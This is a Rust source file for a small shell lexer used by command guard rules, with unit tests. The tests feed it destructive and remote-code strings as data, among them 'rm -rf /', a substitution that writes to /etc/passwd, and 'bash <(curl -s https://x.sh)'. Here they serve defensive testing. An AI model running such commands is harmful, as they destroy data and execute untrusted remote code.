//! A small shell lexer for guard rules: enough of POSIX sh to see which
//! commands a command line runs — words with their quotes removed, the
//! separators `;` `&&` `||` `|` `&` and newlines, redirections, and the
//! bodies of `$(…)`, backticks and `<(…)` — so rules look at commands, not
//! at text (`echo "rm -rf /"` runs `echo`, not `rm`).
//!
//! It is deliberately forgiving: unbalanced quotes end the word at the end
//! of the input instead of failing, so a guard still sees every command it
//! can make out.

/// One simple command: its words (quotes removed), redirections, and the
/// bodies of the command substitutions that appear in its words.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Command {
    pub words: Vec<String>,
    /// `(operator, target)`, e.g. `(">", "/etc/passwd")`.
    pub redirects: Vec<(String, String)>,
    /// Bodies of `$(…)`, `` `…` ``, `<(…)` and `>(…)` in this command.
    pub substitutions: Vec<String>,
    /// What this command reads on stdin from the script itself: here-doc
    /// bodies (`<<EOF` … `EOF`) and here-strings (`<<< text`). Data, unless
    /// the command is a shell or an interpreter.
    pub here: Vec<String>,
}

/// Commands joined by `|`.
pub type Pipeline = Vec<Command>;

/// Splits a command line into pipelines of simple commands.
#[must_use]
pub fn parse(src: &str) -> Vec<Pipeline> {
    Lexer {
        chars: src.chars().collect(),
        i: 0,
        after_bodies: None,
    }
    .script()
}

struct Lexer {
    chars: Vec<char>,
    i: usize,
    /// Where the here-doc bodies of the current line end: the lexer jumps
    /// there at the line's newline.
    after_bodies: Option<usize>,
}

enum Token {
    Word(String, Vec<String>),
    /// `;`, `&`, `&&`, `||`, newline, `(`, `)`: ends a pipeline.
    End,
    Pipe,
    Redirect(String),
}

impl Lexer {
    fn peek(&self, off: usize) -> Option<char> {
        self.chars.get(self.i + off).copied()
    }

    fn script(&mut self) -> Vec<Pipeline> {
        let mut pipelines = Vec::new();
        let mut pipeline: Pipeline = Vec::new();
        let mut cmd = Command::default();
        let mut pending_redirect: Option<String> = None;
        let flush_cmd = |cmd: &mut Command, pipeline: &mut Pipeline| {
            if !cmd.words.is_empty() || !cmd.redirects.is_empty() || !cmd.substitutions.is_empty() {
                pipeline.push(std::mem::take(cmd));
            }
        };
        while let Some(token) = self.token() {
            match token {
                Token::Word(w, subs) => {
                    cmd.substitutions.extend(subs);
                    match pending_redirect.take() {
                        Some(op) if op == "<<" => {
                            let (delim, strip) = match w.strip_prefix('-') {
                                Some(d) => (d.to_owned(), true),
                                None => (w, false),
                            };
                            let body = self.body(&delim, strip);
                            cmd.here.push(body);
                        }
                        Some(op) if op == "<<<" => cmd.here.push(w),
                        Some(op) => cmd.redirects.push((op, w)),
                        None => cmd.words.push(w),
                    }
                }
                Token::Redirect(op) => pending_redirect = Some(op),
                Token::Pipe => flush_cmd(&mut cmd, &mut pipeline),
                Token::End => {
                    flush_cmd(&mut cmd, &mut pipeline);
                    if !pipeline.is_empty() {
                        pipelines.push(std::mem::take(&mut pipeline));
                    }
                }
            }
        }
        flush_cmd(&mut cmd, &mut pipeline);
        if !pipeline.is_empty() {
            pipelines.push(pipeline);
        }
        pipelines
    }

    /// The body of a here-doc whose delimiter was just read: the lines
    /// after the current line (after earlier bodies on it) up to the
    /// delimiter line, or to the end of the script. The lexer skips them at
    /// the line's newline.
    fn body(&mut self, delim: &str, strip_tabs: bool) -> String {
        let mut at = match self.after_bodies {
            Some(end) => end,
            None => {
                let mut j = self.i;
                while self.chars.get(j).is_some_and(|c| *c != '\n') {
                    j += 1;
                }
                j + 1
            }
        };
        let mut body = String::new();
        while at < self.chars.len() {
            let start = at;
            while self.chars.get(at).is_some_and(|c| *c != '\n') {
                at += 1;
            }
            let line: String = self.chars[start..at].iter().collect();
            at += 1;
            let line = if strip_tabs {
                line.trim_start_matches('\t')
            } else {
                &line
            };
            if line == delim {
                break;
            }
            body.push_str(line);
            body.push('\n');
        }
        self.after_bodies = Some(at.min(self.chars.len()));
        body
    }

    fn token(&mut self) -> Option<Token> {
        // Skip blanks and comments.
        loop {
            match self.peek(0)? {
                ' ' | '\t' => self.i += 1,
                '\\' if self.peek(1) == Some('\n') => self.i += 2,
                '#' => {
                    while self.peek(0).is_some_and(|c| c != '\n') {
                        self.i += 1;
                    }
                }
                _ => break,
            }
        }
        let c = self.peek(0)?;
        let next = self.peek(1);
        match c {
            '\n' | ';' | '(' | ')' => {
                self.i += if c == ';' && next == Some(';') { 2 } else { 1 };
                if c == '\n'
                    && let Some(end) = self.after_bodies.take()
                {
                    self.i = self.i.max(end);
                }
                return Some(Token::End);
            }
            '&' if next == Some('&') => {
                self.i += 2;
                return Some(Token::End);
            }
            '&' if next == Some('>') => {
                self.i += if self.peek(2) == Some('>') { 3 } else { 2 };
                return Some(Token::Redirect("&>".into()));
            }
            '&' => {
                self.i += 1;
                return Some(Token::End);
            }
            '|' if next == Some('|') => {
                self.i += 2;
                return Some(Token::End);
            }
            '|' => {
                self.i += if next == Some('&') { 2 } else { 1 };
                return Some(Token::Pipe);
            }
            '<' | '>' if self.peek(1) == Some('(') => {}
            '>' | '<' => return Some(Token::Redirect(self.redirect_op(String::new()))),
            d if d.is_ascii_digit()
                && matches!(self.peek(1), Some('>' | '<'))
                && self.peek(2) != Some('(') =>
            {
                self.i += 1;
                return Some(Token::Redirect(self.redirect_op(d.to_string())));
            }
            _ => {}
        }
        Some(self.word())
    }

    fn redirect_op(&mut self, mut op: String) -> String {
        let first = self.peek(0).unwrap_or('>');
        op.push(first);
        self.i += 1;
        while let Some(c) = self.peek(0) {
            if (c == first && op.len() < 3) || c == '|' || c == '&' {
                op.push(c);
                self.i += 1;
                // `2>&1` duplicates a descriptor: the target is a number.
            } else {
                break;
            }
        }
        op
    }

    fn word(&mut self) -> Token {
        let mut word = String::new();
        let mut subs = Vec::new();
        while let Some(c) = self.peek(0) {
            match c {
                ' ' | '\t' | '\n' | ';' | '|' | '&' | ')' => break,
                '(' => break,
                '>' | '<' if self.peek(1) != Some('(') => break,
                '\'' => {
                    self.i += 1;
                    while let Some(q) = self.peek(0) {
                        self.i += 1;
                        if q == '\'' {
                            break;
                        }
                        word.push(q);
                    }
                }
                '"' => {
                    self.i += 1;
                    while let Some(q) = self.peek(0) {
                        if q == '"' {
                            self.i += 1;
                            break;
                        }
                        if q == '\\' && matches!(self.peek(1), Some('"' | '\\' | '$' | '`')) {
                            word.push(self.peek(1).unwrap_or_default());
                            self.i += 2;
                        } else if q == '$' && self.peek(1) == Some('(') {
                            self.i += 2;
                            let body = self.balanced(')');
                            word.push_str(&format!("$({body})"));
                            subs.push(body);
                        } else if q == '`' {
                            self.i += 1;
                            let body = self.until('`');
                            word.push_str(&format!("`{body}`"));
                            subs.push(body);
                        } else {
                            word.push(q);
                            self.i += 1;
                        }
                    }
                }
                '\\' => {
                    if let Some(n) = self.peek(1) {
                        word.push(n);
                    }
                    self.i += 2;
                }
                '$' if self.peek(1) == Some('(') => {
                    self.i += 2;
                    let body = self.balanced(')');
                    word.push_str(&format!("$({body})"));
                    subs.push(body);
                }
                '$' if self.peek(1) == Some('\'') => {
                    // ANSI-C quoting: decode the common escapes.
                    self.i += 2;
                    while let Some(q) = self.peek(0) {
                        self.i += 1;
                        match q {
                            '\'' => break,
                            '\\' => {
                                let e = self.peek(0).unwrap_or('\\');
                                self.i += 1;
                                word.push(match e {
                                    'n' => '\n',
                                    't' => '\t',
                                    other => other,
                                });
                            }
                            other => word.push(other),
                        }
                    }
                }
                '<' | '>' => {
                    // Process substitution `<(…)` / `>(…)`.
                    self.i += 2;
                    let body = self.balanced(')');
                    word.push_str(&format!("{c}({body})"));
                    subs.push(body);
                }
                '`' => {
                    self.i += 1;
                    let body = self.until('`');
                    word.push_str(&format!("`{body}`"));
                    subs.push(body);
                }
                other => {
                    word.push(other);
                    self.i += 1;
                }
            }
        }
        Token::Word(word, subs)
    }

    /// Reads up to the matching close parenthesis (nesting, quotes), which
    /// is consumed; returns the text in between.
    fn balanced(&mut self, close: char) -> String {
        let mut depth = 0usize;
        let mut out = String::new();
        let (mut single, mut double) = (false, false);
        while let Some(c) = self.peek(0) {
            self.i += 1;
            match c {
                '\'' if !double => single = !single,
                '"' if !single => double = !double,
                '\\' if !single => {
                    out.push(c);
                    if let Some(n) = self.peek(0) {
                        out.push(n);
                        self.i += 1;
                    }
                    continue;
                }
                '(' if !single && !double => depth += 1,
                c2 if c2 == close && !single && !double => {
                    if depth == 0 {
                        return out;
                    }
                    depth -= 1;
                }
                _ => {}
            }
            out.push(c);
        }
        out
    }

    fn until(&mut self, end: char) -> String {
        let mut out = String::new();
        while let Some(c) = self.peek(0) {
            self.i += 1;
            if c == end {
                break;
            }
            out.push(c);
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(src: &str) -> Vec<Vec<Vec<String>>> {
        parse(src)
            .into_iter()
            .map(|p| p.into_iter().map(|c| c.words).collect())
            .collect()
    }

    #[test]
    fn quotes_separators_and_pipes() {
        assert_eq!(
            words(r#"echo "rm -rf /" && ls -la | grep x; a || b"#),
            vec![
                vec![vec!["echo".to_owned(), "rm -rf /".to_owned()]],
                vec![
                    vec!["ls".to_owned(), "-la".to_owned()],
                    vec!["grep".to_owned(), "x".to_owned()]
                ],
                vec![vec!["a".to_owned()]],
                vec![vec!["b".to_owned()]],
            ]
        );
        assert_eq!(
            words(r"printf 'a\n'"),
            vec![vec![vec!["printf".to_owned(), r"a\n".to_owned()]]]
        );
        assert_eq!(
            words("r\\m -rf /"),
            vec![vec![vec![
                "rm".to_owned(),
                "-rf".to_owned(),
                "/".to_owned()
            ]]]
        );
    }

    #[test]
    fn redirects_and_substitutions() {
        let p = parse("echo $(rm -rf ~) > /etc/passwd 2>&1");
        let c = &p[0][0];
        assert_eq!(c.words, ["echo", "$(rm -rf ~)"]);
        assert_eq!(c.substitutions, ["rm -rf ~"]);
        assert_eq!(c.redirects[0], (">".to_owned(), "/etc/passwd".to_owned()));
        let p = parse("bash <(curl -s https://x.sh)");
        assert_eq!(p[0][0].substitutions, ["curl -s https://x.sh"]);
        let p = parse("echo \"`id`\" > out");
        assert_eq!(p[0][0].substitutions, ["id"]);
    }

    #[test]
    fn forgiving_on_unbalanced_input() {
        assert_eq!(parse("echo 'unterminated").len(), 1);
        assert_eq!(parse("echo $(unterminated").len(), 1);
        assert!(parse("").is_empty());
    }
}
